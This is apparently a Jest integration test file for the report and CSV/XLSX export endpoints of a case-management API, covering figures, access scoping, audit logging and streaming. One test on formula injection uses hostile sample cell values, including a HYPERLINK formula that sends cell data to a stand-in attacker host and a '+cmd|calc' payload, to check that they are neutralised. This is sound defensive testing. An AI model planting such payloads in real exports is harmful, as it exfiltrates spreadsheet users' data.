import ExcelJS from 'exceljs';
import { readCsv } from '../../api/src/common/csv/csv-reader';
import { csvCell } from '../../api/src/common/csv/csv-writer';
import { bearer, demoColleagues, startApi, TestApi } from '../support/api';

type Who = 'advisor' | 'advisor2' | 'coordinator' | 'manager' | 'admin';
const q = (params: Record<string, unknown>) => new URLSearchParams(Object.entries(params).map(([k, v]): [string, string] => [k, typeof v === 'string' ? v : JSON.stringify(v)])).toString();
const binary = (res: NodeJS.ReadableStream, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

describe('reports and exports', () => {
  let api: TestApi;
  let as: Record<Who, { Authorization: string }>;
  let ids: Record<string, string>;
  let tartines: string;
  let zenne: string;
  beforeAll(async () => {
    api = await startApi();
    ({ as, ids } = await demoColleagues(api));
    // A known data set: two organisations, two cases, four meetings, one final assessment, one approved file, two referrals.
    tartines = (await api.http.post('/api/organisations').set(as.advisor).send({ name: 'Coopérative Les Tartines', enterpriseNumber: '0403.019.261', legalForm: 'sc_cv', sectors: ['sustainable_food', 'work_integration'], postcode: '1080', description: 'Pain, "tartines", et\nsoupe' }).expect(201)).body.id;
    zenne = (await api.http.post('/api/organisations').set(as.advisor).send({ name: 'Bouwcoöperatie Zennevallei', legalForm: 'sc_cv', sectors: ['construction'], postcode: '1070' }).expect(201)).body.id;
    await api.http.post('/api/cases').set(as.coordinator).send({ organisationId: tartines, title: 'Parcours', advisorId: ids.advisor, openedOn: '2026-02-01' }).expect(201);
    await api.http.post('/api/cases').set(as.coordinator).send({ organisationId: zenne, title: 'Traject', advisorId: ids.advisor2, openedOn: '2026-03-01' }).expect(201);
    const meet = (who: Who, organisationId: string, occurredAt: string, channel: string) =>
      api.http.post('/api/meetings').set(as[who]).send({ organisationId, subject: 'Rendez-vous', occurredAt, channel, notes: 'Notes, avec "guillemets"\net retour à la ligne' }).expect(201);
    await meet('advisor', tartines, '2026-02-11T10:00:00Z', 'in_person');
    await meet('advisor', tartines, '2026-03-05T10:00:00Z', 'video');
    await meet('advisor2', zenne, '2026-03-21T10:00:00Z', 'in_person');
    await meet('advisor2', zenne, '2025-12-01T10:00:00Z', 'phone');
    const assessment = (await api.http.post('/api/assessments').set(as.advisor).send({ organisationId: tartines }).expect(201)).body;
    await api.http.post(`/api/assessments/${assessment.id}/finalise`).set(as.advisor).expect(200);
    const file = (await api.http.post('/api/recognitions').set(as.advisor).send({ organisationId: tartines, kind: 'brussels_esd', validFrom: '2025-01-01', validUntil: new Date(Date.now() + 60 * 86_400_000).toISOString().slice(0, 10) }).expect(201)).body;
    for (const status of ['submitted', 'under_review', 'approved']) await api.http.post(`/api/recognitions/${file.id}/move`).set(as.advisor).send({ status }).expect(200);
    const [coopcity] = await api.sql(`SELECT id FROM programmes WHERE partner = 'coopcity' ORDER BY name LIMIT 1`);
    const r1 = (await api.http.post('/api/referrals').set(as.advisor).send({ organisationId: tartines, partner: 'coopcity', programmeId: coopcity.id, referredOn: '2026-02-21' }).expect(201)).body;
    for (const status of ['sent', 'accepted']) await api.http.post(`/api/referrals/${r1.id}/move`).set(as.advisor).send({ status }).expect(200);
    const r2 = (await api.http.post('/api/referrals').set(as.advisor2).send({ organisationId: zenne, partner: 'bissib', referredOn: '2026-03-11' }).expect(201)).body;
    await api.http.post(`/api/referrals/${r2.id}/move`).set(as.advisor2).send({ status: 'sent' }).expect(200);
    await api.http.post(`/api/referrals/${r2.id}/move`).set(as.advisor2).send({ status: 'declined', reason: 'Pas encore' }).expect(200);
  });
  afterAll(() => api.close());

  const overview = (who: Who, params: Record<string, string> = {}) => api.http.get(`/api/reports/overview?${new URLSearchParams({ from: '2026-01-01', to: '2026-06-30', ...params })}`).set(as[who]);

  it('gives the figures of the known data set, computed in SQL', async () => {
    const res = await overview('manager').expect(200);
    expect(res.body.organisations.supported).toBe(2);
    expect(res.body.organisations.bySector).toEqual(expect.arrayContaining([{ key: 'construction', count: 1 }, { key: 'sustainable_food', count: 1 }, { key: 'work_integration', count: 1 }]));
    expect(res.body.organisations.byLegalForm).toEqual([{ key: 'sc_cv', count: 2 }]);
    expect(res.body.organisations.byStage).toEqual([{ key: 'intake', count: 2 }]);
    expect(res.body.organisations.byMunicipality).toEqual(expect.arrayContaining([{ key: '21012', label: 'Molenbeek-Saint-Jean', count: 1 }, { key: '21001', label: 'Anderlecht', count: 1 }]));
    expect(res.body.cases).toEqual({ opened: 2, closed: 0 });
    expect(res.body.meetings.total).toBe(3);
    expect(res.body.meetings.byMonth).toEqual([{ key: '2026-02', count: 1 }, { key: '2026-03', count: 2 }]);
    expect(res.body.meetings.byChannel).toEqual([{ key: 'in_person', count: 2 }, { key: 'video', count: 1 }]);
    expect(res.body.meetings.byAdvisor).toEqual(expect.arrayContaining([{ key: ids.advisor, label: 'Sarah El Amrani', count: 2 }, { key: ids.advisor2, label: 'Pieter Janssens', count: 1 }]));
    expect(res.body.recognitions.byStatus).toEqual([{ key: 'approved', count: 1 }]);
    expect(res.body.recognitions.renewalsDueCount).toBe(1);
    expect(res.body.recognitions.renewalsDueIn120Days).toBe(1);
    expect(res.body.referrals).toMatchObject({ total: 2, acceptanceRate: 0.5, completionRate: 0 });
    expect(res.body.referrals.byPartnerAndStatus).toEqual([{ partner: 'bissib', status: 'declined', count: 1 }, { partner: 'coopcity', status: 'accepted', count: 1 }]);
    // First meetings after 10 and 20 days, referrals after 20 and 10 days.
    expect(res.body.medianDays).toEqual({ caseOpeningToFirstMeeting: 15, caseOpeningToReferral: 15 });
  });

  it('serves the same figures again for a minute, saying when they were computed; each scope has its own', async () => {
    const first = await overview('manager').expect(200);
    expect(Math.abs(Date.parse(first.body.computedAt) - Date.now())).toBeLessThan(60_000);
    const again = await overview('manager').expect(200);
    expect(again.body).toEqual(first.body);
    const other = await overview('manager', { to: '2026-02-28' }).expect(200);
    expect(other.body.period.to).toBe('2026-02-28');
    expect(other.body.meetings.total).toBe(1);
  });

  it('narrows to an advisor and a sector; an advisor sees their own cases only', async () => {
    const own = await overview('advisor').expect(200);
    expect(own.body.scope.advisorId).toBe(ids.advisor);
    expect(own.body.organisations.supported).toBe(1);
    expect(own.body.meetings.total).toBe(2);
    expect(own.body.referrals.total).toBe(1);
    await overview('advisor', { advisorId: ids.advisor2 }).expect(403);
    const sector = await overview('coordinator', { sector: 'construction' }).expect(200);
    expect(sector.body.organisations.supported).toBe(1);
    expect(sector.body.meetings.total).toBe(1);
    const bad = await overview('manager', { from: 'yesterday', sector: 'knitting' }).expect(400);
    expect(Object.keys(bad.body.errors).sort()).toEqual(['from', 'sector']);
  });

  it('exports CSV with a BOM, RFC 4180 quoting, labels for relations and ISO dates, every row, filtered like the list', async () => {
    const res = await api.http.get(`/api/reports/organisations.csv?${q({ filter: { legalForm: 'sc_cv' }, sort: ['name', 'ASC'] })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
    expect(res.headers['content-type']).toMatch(/text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="traject-organisations-\d{4}-\d{2}-\d{2}\.csv"/);
    const text = (res.body as Buffer).toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toContain('"Pain, ""tartines"", et\nsoupe"');
    const [header, ...rows] = readCsv(text.slice(1));
    expect(rows).toHaveLength(2);
    const record = (cells: string[]) => Object.fromEntries(header.cells.map((h, i) => [h, cells[i]]));
    const [zenneRow, tartinesRow] = rows.map((r) => record(r.cells));
    expect(zenneRow).toMatchObject({ name: 'Bouwcoöperatie Zennevallei', advisor: 'Pieter Janssens', municipalityFr: 'Anderlecht', sectors: 'construction' });
    expect(tartinesRow).toMatchObject({ name: 'Coopérative Les Tartines', enterpriseNumber: '0403.019.261', description: 'Pain, "tartines", et\nsoupe', sectors: 'sustainable_food|work_integration', advisor: 'Sarah El Amrani', stage: 'intake' });
    expect(tartinesRow.lastMeetingAt).toBe('2026-03-05T10:00:00Z');
    expect(tartinesRow.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    const meetings = await api.http.get(`/api/reports/meetings.csv?${q({ filter: { organisationId: tartines } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
    const [mHeader, ...mRows] = readCsv((meetings.body as Buffer).toString('utf8').slice(1));
    expect(mRows).toHaveLength(2);
    const notes = mHeader.cells.indexOf('notes');
    expect(mRows[0].cells[notes]).toBe('Notes, avec "guillemets"\net retour à la ligne');
    expect(mRows[0].cells[mHeader.cells.indexOf('organisation')]).toBe('Coopérative Les Tartines');
  });

  it('exports XLSX through a maintained library, the same rows as the CSV', async () => {
    const res = await api.http.get(`/api/reports/referrals.xlsx?${q({ sort: ['referredOn', 'ASC'] })}`).set(as.coordinator).buffer(true).parse(binary as never).expect(200);
    expect(res.headers['content-type']).toMatch(/spreadsheetml/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as never);
    const sheet = workbook.getWorksheet('referrals')!;
    const rows = sheet.getSheetValues().filter(Boolean).map((row) => (row as unknown[]).slice(1));
    expect(rows[0]).toEqual(['id', 'organisation', 'enterpriseNumber', 'partner', 'programme', 'status', 'referredOn', 'respondedOn', 'completedOn', 'outcome', 'reason', 'referredBy']);
    expect(rows).toHaveLength(3);
    expect(rows[1].slice(1, 7)).toEqual(['Coopérative Les Tartines', '0403.019.261', 'coopcity', expect.stringMatching(/^COOPCITY/), 'accepted', '2026-02-21']);
    expect(rows[2][10]).toBe('Pas encore');
  });

  it('CSV formula injection: text starting with =, +, -, @, tab or CR is neutralised; numbers stay numbers; XLSX writes text cells', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")';
    const org = (await api.http.post('/api/organisations').set(as.advisor).send({ name: evil, description: '+cmd|calc', postcode: '1000', employeesFte: -0 }).expect(201)).body;
    await api.http.post('/api/meetings').set(as.advisor).send({ organisationId: org.id, subject: '@SUM(1+1)', notes: '\tTAB', outcomes: '-2+3' }).expect(201);
    const csv = await api.http.get(`/api/reports/organisations.csv?${q({ filter: { id: [org.id] } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
    const [header, row] = readCsv((csv.body as Buffer).toString('utf8').slice(1));
    const cell = (name: string) => row.cells[header.cells.indexOf(name)];
    expect(cell('name')).toBe(`'${evil}`);
    expect(cell('description')).toBe(`'+cmd|calc`);
    const meetings = await api.http.get(`/api/reports/meetings.csv?${q({ filter: { organisationId: org.id } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
    const [mHeader, mRow] = readCsv((meetings.body as Buffer).toString('utf8').slice(1));
    const mCell = (name: string) => mRow.cells[mHeader.cells.indexOf(name)];
    expect(mCell('subject')).toBe(`'@SUM(1+1)`);
    expect(mCell('notes')).toBe(`'\tTAB`);
    expect(mCell('outcomes')).toBe(`'-2+3`);
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.5')).toBe('-12.5');
    const xlsx = await api.http.get(`/api/reports/organisations.xlsx?${q({ filter: { id: [org.id] } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as never);
    const sheet = workbook.worksheets[0];
    const names = sheet.getColumn((sheet.getRow(1).values as string[]).indexOf('name'));
    const cellValue = names.values.find((v) => typeof v === 'string' && v.includes('HYPERLINK'));
    expect(cellValue).toBe(evil); // a text cell: Excel shows it, never runs it
    expect(sheet.getSheetValues().flat().some((v) => v && typeof v === 'object' && 'formula' in (v as object))).toBe(false);
  });

  it('contacts (personal data) only for coordinators and admins, and every export is in the audit log', async () => {
    await api.http.post('/api/contacts').set(as.advisor).send({ organisationId: tartines, firstName: 'Ann', lastName: 'Peeters' }).expect(201);
    await api.http.get('/api/reports/contacts.csv').set(as.manager).expect(403);
    await api.http.get('/api/reports/contacts.csv').set(as.advisor).expect(403);
    const res = await api.http.get('/api/reports/contacts.xlsx').set(as.admin).buffer(true).parse(binary as never).expect(200);
    expect((res.body as Buffer).length).toBeGreaterThan(100);
    const [log] = await api.sql(`SELECT user_id, entity, changes FROM audit_log WHERE action = 'export' AND entity = 'contacts' ORDER BY id DESC LIMIT 1`);
    expect(log).toMatchObject({ user_id: ids.admin, entity: 'contacts', changes: { format: 'xlsx', personalData: true } });
  });

  it('an advisor exports only what belongs to their cases; unknown reports and formats are refused', async () => {
    const res = await api.http.get('/api/reports/cases.csv').set(as.advisor).buffer(true).parse(binary as never).expect(200);
    const [, ...rows] = readCsv((res.body as Buffer).toString('utf8').slice(1));
    expect(rows).toHaveLength(1);
    await api.http.get('/api/reports/salaries.csv').set(as.manager).expect(404);
    await api.http.get('/api/reports/organisations.pdf').set(as.manager).expect(400);
    await api.http.get(`/api/reports/organisations.csv?${q({ filter: { colour: 'blue' } })}`).set(as.manager).expect(400);
    await api.http.get('/api/reports/organisations.csv').expect(401);
  });

  it('streams 20,000 rows with flat memory, and none is cut', async () => {
    await api.sql(`INSERT INTO organisations (name, legal_form, sectors, postcode, municipality, description)
                   SELECT 'Organisation ' || n, 'asbl_vzw', ARRAY['culture'], '1000', '21004', repeat('Description longue. ', 10) FROM generate_series(1, 20000) n`);
    global.gc?.();
    const before = process.memoryUsage().rss;
    let peak = before;
    const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    const res = await api.http.get(`/api/reports/organisations.csv?${q({ filter: { legalForm: 'asbl_vzw' } })}`).set(as.manager).buffer(true).parse(binary as never).expect(200);
    clearInterval(timer);
    const lines = readCsv((res.body as Buffer).toString('utf8').slice(1));
    expect(lines).toHaveLength(20_001);
    const grewMb = (peak - before) / 1024 / 1024;
    console.log(`20,000-row CSV export: ${((res.body as Buffer).length / 1024 / 1024).toFixed(1)} MB, RSS before ${(before / 1048576).toFixed(0)} MB, peak +${grewMb.toFixed(1)} MB`);
    expect(grewMb).toBeLessThan(100);
  }, 60_000);
  it("keeps each case's first meeting after its opening as meetings come, move and go (the medians read it)", async () => {
    const firstMeeting = async () => (await api.sql(`SELECT first_meeting_on::text AS day FROM cases WHERE organisation_id = $1`, [tartines]))[0].day;
    expect(await firstMeeting()).toBe('2026-02-11');
    const early = (await api.http.post('/api/meetings').set(as.advisor).send({ organisationId: tartines, subject: 'Appel', occurredAt: '2026-02-03T09:00:00Z', channel: 'phone' }).expect(201)).body;
    expect(await firstMeeting()).toBe('2026-02-03');
    const moved = (await api.http.put(`/api/meetings/${early.id}`).set(as.advisor).send({ ...early, occurredAt: '2026-01-20T09:00:00Z' }).expect(200)).body;
    expect(await firstMeeting()).toBe('2026-02-11');
    await api.http.put(`/api/meetings/${early.id}`).set(as.advisor).send({ ...moved, occurredAt: '2026-02-05T09:00:00Z' }).expect(200);
    expect(await firstMeeting()).toBe('2026-02-05');
    await api.http.delete(`/api/meetings/${early.id}`).set(as.advisor).expect(200);
    expect(await firstMeeting()).toBe('2026-02-11');
  });
});
